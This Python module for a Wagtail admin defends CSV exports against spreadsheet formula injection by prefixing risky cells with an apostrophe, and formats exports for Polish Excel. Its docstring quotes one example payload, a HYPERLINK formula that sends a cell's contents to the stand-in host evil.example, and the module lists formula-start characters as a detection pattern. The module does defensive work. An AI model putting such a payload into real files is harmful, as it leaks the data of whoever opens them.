"""CSV exports of the admin that a spreadsheet opens as text, never as formulas (OWASP's CSV injection rule),
and (ExportForExcel) that Polish Excel opens with its letters, words and times right.

Wagtail's exports (`SpreadsheetExportMixin`: sign-ups, subscribers, its own reports) write a CSV cell as
it is, and a name such as `=HYPERLINK("http://evil.example/?"&D2,"Kliknij")` runs when an organiser
opens the file. Its XLSX export already stores such a cell as text.
"""

import csv
import datetime

from django.conf import settings
from django.utils import timezone
from django.utils.functional import cached_property

from wagtail.admin.views.mixins import Echo, SpreadsheetExportMixin

from .languages import LANGUAGE_NAMES

# A spreadsheet reads a cell that starts with one of these as a formula (or, for tab and carriage
# return, strips them and looks again).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def as_text(value):
    """The cell's value, with a leading apostrophe where a spreadsheet would take it for a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def write_csv_row_as_text(self, writer, row_dict):
    return writer.writerow(
        {
            field: as_text(self.preprocess_field_value(field, value, self.FORMAT_CSV))
            for field, value in row_dict.items()
        }
    )


def export_csv_as_text():
    """Every CSV export of the admin goes through this one method of Wagtail's mixin; the tests that export a
    formula (tests/site/test_registration_organisers.py, test_newsletter_sending.py) fail if Wagtail renames it."""
    SpreadsheetExportMixin.write_csv_row = write_csv_row_as_text


class ExportForExcel:
    """An admin listing's export as an organiser's Excel in Poland opens it with a double click.

    The CSV is UTF-8 with a byte order mark, without which Excel reads the Windows code page and garbles
    "ą", "ł" and "ø", and its cells are separated by semicolons, the list separator of Polish Excel (whose
    decimal separator is the comma). A choice is written as its label in the reader's language, not its
    code, and a time as the admin shows it: in the site's time zone, to the minute (a real date cell in XLSX).
    """

    def stream_csv(self, queryset):
        writer = csv.DictWriter(Echo(), fieldnames=self.list_export, delimiter=";")
        headings = {field: self.get_heading(queryset, field) for field in self.list_export}
        yield BYTE_ORDER_MARK + writer.writerow(headings)
        for item in queryset:
            yield self.write_csv_row(writer, self.to_row_dict(item))

    def get_preprocess_function(self, field, value, export_format):
        if field in self.custom_field_preprocess:
            return super().get_preprocess_function(field, value, export_format)
        if isinstance(value, datetime.datetime):
            return LOCAL_TIME[export_format]
        labels = self.choice_labels.get(field)
        if labels:
            return lambda code: str(labels.get(code, code))
        return super().get_preprocess_function(field, value, export_format)

    @cached_property
    def choice_labels(self):
        """Read once per export, not once per cell."""
        return choice_labels(self.model)


BYTE_ORDER_MARK = "\ufeff".encode()  # Echo hands the CSV writer's rows on as UTF-8 bytes
LOCAL_TIME = {
    SpreadsheetExportMixin.FORMAT_CSV: lambda value: f"{timezone.localtime(value):%Y-%m-%d %H:%M}",
    SpreadsheetExportMixin.FORMAT_XLSX: lambda value: timezone.make_naive(value).replace(second=0, microsecond=0),
}


def choice_labels(model):
    """Each choice field's labels by code; a language's is its name in the reader's language ("polski"),
    where the site's choices give its own name ("Polski")."""
    return {field.name: labels_of(field) for field in model._meta.fields if field.choices}


def labels_of(field):
    labels = dict(field.flatchoices)
    return LANGUAGE_NAMES if list(labels) == [code for code, _name in settings.LANGUAGES] else labels
